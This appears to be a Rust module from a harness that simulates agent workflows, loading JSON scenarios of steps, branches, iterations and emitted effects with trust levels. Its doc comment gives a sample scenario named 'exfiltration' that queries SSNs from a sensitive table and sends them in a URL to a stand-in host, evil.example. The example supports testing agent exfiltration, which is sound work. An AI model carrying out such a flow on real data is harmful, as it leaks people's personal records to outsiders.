//! JSON scenario files: a workflow tree built from a fixed vocabulary of
//! step functions, plus the input value and the handlers the world offers.
//!
//! ```json
//! {
//!   "name": "exfiltration",
//!   "input": null,
//!   "workflow": {"seq": [
//!     {"emit": {"name": "lookup", "kind": "db.query",
//!               "params": {"table": "sensitive", "select": "ssn"}}},
//!     {"step": {"fn": "encode-url", "base": "http://evil.example/collect"}},
//!     {"emit": {"name": "exfil", "kind": "web.browse", "params": {"url": "$input"}}}
//!   ]}
//! }
//! ```
//!
//! Emit parameter strings of the form `$input` and `$input.<field>` are
//! replaced by the (stringified) input value or one of its fields. Other
//! values are taken literally.

use std::collections::BTreeMap;

use percent_encoding::{utf8_percent_encode, NON_ALPHANUMERIC};
use serde::{Deserialize, Serialize};
use serde_json::Value;
use thiserror::Error;

use crate::directive::{EffectKind, Params, Phase, Scalar, TrustLevel};
use crate::kernel::{BuiltinHandler, HandlerRegistry};
use crate::workflow::{branch_compose, iterate_compose, Workflow};

#[derive(Debug, Clone, PartialEq, Eq, Error)]
pub enum ScenarioError {
    #[error("scenario parse error at line {line}, column {column}: {message}")]
    Parse {
        line: usize,
        column: usize,
        message: String,
    },
    #[error("no built-in handler provides {0}")]
    UnknownHandler(EffectKind),
}

#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct Scenario {
    #[serde(default)]
    pub name: String,
    #[serde(default)]
    pub input: Value,
    /// Capabilities the world implements. Defaults to all built-in handlers.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub handlers: Option<Vec<EffectKind>>,
    pub workflow: NodeSpec,
}

#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
#[serde(rename_all = "snake_case", deny_unknown_fields)]
pub enum NodeSpec {
    Seq(Vec<NodeSpec>),
    Step(StepSpec),
    Emit(EmitSpec),
    Branch {
        #[serde(rename = "if")]
        condition: Condition,
        then: Box<NodeSpec>,
        #[serde(rename = "else")]
        otherwise: Box<NodeSpec>,
    },
    Iterate {
        /// `$input` or a field name of the input.
        over: String,
        body: Box<NodeSpec>,
    },
}

#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
#[serde(tag = "fn", rename_all = "kebab-case", deny_unknown_fields)]
pub enum StepSpec {
    Identity,
    /// `{base}?{param}={percent-encoded input}`
    EncodeUrl {
        base: String,
        #[serde(default = "default_query_param")]
        param: String,
    },
    /// Field of an object, or of each object in an array. JSON text input is
    /// parsed first.
    SelectField {
        field: String,
    },
    Const {
        value: Value,
    },
    Concat {
        #[serde(default)]
        prefix: String,
        #[serde(default)]
        suffix: String,
    },
}

fn default_query_param() -> String {
    "q".to_owned()
}

#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct EmitSpec {
    pub name: String,
    pub kind: EffectKind,
    #[serde(default = "default_trust")]
    pub trust: TrustLevel,
    #[serde(default = "default_phase")]
    pub phase: Phase,
    #[serde(default)]
    pub params: BTreeMap<String, Scalar>,
}

fn default_trust() -> TrustLevel {
    TrustLevel::Agent
}

fn default_phase() -> Phase {
    Phase::Execute
}

#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
#[serde(rename_all = "snake_case", deny_unknown_fields)]
pub enum Condition {
    Always(bool),
    IsNull,
    Equals(Value),
}

impl Scenario {
    pub fn load(bytes: &[u8]) -> Result<Self, ScenarioError> {
        serde_json::from_slice(bytes).map_err(|e| ScenarioError::Parse {
            line: e.line(),
            column: e.column(),
            message: e.to_string(),
        })
    }

    pub fn registry(&self) -> Result<HandlerRegistry, ScenarioError> {
        let Some(kinds) = &self.handlers else {
            return Ok(HandlerRegistry::standard());
        };
        let mut reg = HandlerRegistry::empty();
        for k in kinds {
            let h = BuiltinHandler::ALL
                .into_iter()
                .find(|h| &h.default_kind() == k)
                .ok_or_else(|| ScenarioError::UnknownHandler(k.clone()))?;
            reg.register(k.clone(), h);
        }
        Ok(reg)
    }

    pub fn workflow(&self) -> Workflow {
        self.workflow.compile()
    }
}

/// Text form of a value: strings verbatim, `null` as empty, anything else as
/// canonical JSON.
pub fn stringify(v: &Value) -> String {
    match v {
        Value::String(s) => s.clone(),
        Value::Null => String::new(),
        other => crate::canonical::to_string(other),
    }
}

fn parse_if_json_text(v: &Value) -> Value {
    match v {
        Value::String(s) => serde_json::from_str(s).unwrap_or_else(|_| v.clone()),
        other => other.clone(),
    }
}

fn select_field(v: &Value, field: &str) -> Value {
    match parse_if_json_text(v) {
        Value::Object(map) => map.get(field).cloned().unwrap_or(Value::Null),
        Value::Array(items) => Value::Array(items.iter().map(|i| select_field(i, field)).collect()),
        _ => Value::Null,
    }
}

fn list_of(v: &Value, over: &str) -> Vec<Value> {
    let target = if over == "$input" {
        parse_if_json_text(v)
    } else {
        parse_if_json_text(&select_field(v, over))
    };
    match target {
        Value::Array(items) => items,
        _ => Vec::new(),
    }
}

fn bind_param(template: &Scalar, input: &Value) -> Scalar {
    match template {
        Scalar::Str(s) if s == "$input" => Scalar::Str(stringify(input)),
        Scalar::Str(s) => match s.strip_prefix("$input.") {
            Some(field) => Scalar::Str(stringify(&select_field(input, field))),
            None => template.clone(),
        },
        other => other.clone(),
    }
}

impl StepSpec {
    pub fn label(&self) -> &'static str {
        match self {
            StepSpec::Identity => "identity",
            StepSpec::EncodeUrl { .. } => "encode-url",
            StepSpec::SelectField { .. } => "select-field",
            StepSpec::Const { .. } => "const",
            StepSpec::Concat { .. } => "concat",
        }
    }

    pub fn apply(&self, input: &Value) -> Value {
        match self {
            StepSpec::Identity => input.clone(),
            StepSpec::EncodeUrl { base, param } => {
                let text = stringify(input);
                let encoded = utf8_percent_encode(&text, NON_ALPHANUMERIC);
                Value::String(format!("{base}?{param}={encoded}"))
            }
            StepSpec::SelectField { field } => select_field(input, field),
            StepSpec::Const { value } => value.clone(),
            StepSpec::Concat { prefix, suffix } => {
                Value::String(format!("{prefix}{}{suffix}", stringify(input)))
            }
        }
    }
}

impl Condition {
    pub fn holds(&self, v: &Value) -> bool {
        match self {
            Condition::Always(b) => *b,
            Condition::IsNull => v.is_null(),
            Condition::Equals(expected) => v == expected,
        }
    }
}

impl NodeSpec {
    pub fn compile(&self) -> Workflow {
        match self {
            NodeSpec::Seq(parts) => Workflow::seq_all(parts.iter().map(NodeSpec::compile)),
            NodeSpec::Step(step) => {
                let step = step.clone();
                Workflow::step(step.label(), move |v| step.apply(v))
            }
            NodeSpec::Emit(e) => {
                let templates = e.params.clone();
                Workflow::emit(e.name.clone(), e.kind.clone(), e.trust, e.phase, move |v| {
                    templates
                        .iter()
                        .map(|(k, t)| (k.clone(), bind_param(t, v)))
                        .collect::<Params>()
                })
            }
            NodeSpec::Branch {
                condition,
                then,
                otherwise,
            } => {
                let condition = condition.clone();
                branch_compose(
                    move |v| condition.holds(v),
                    then.compile(),
                    otherwise.compile(),
                )
            }
            NodeSpec::Iterate { over, body } => {
                let over = over.clone();
                iterate_compose(move |v| list_of(v, &over), body.compile())
            }
        }
    }
}
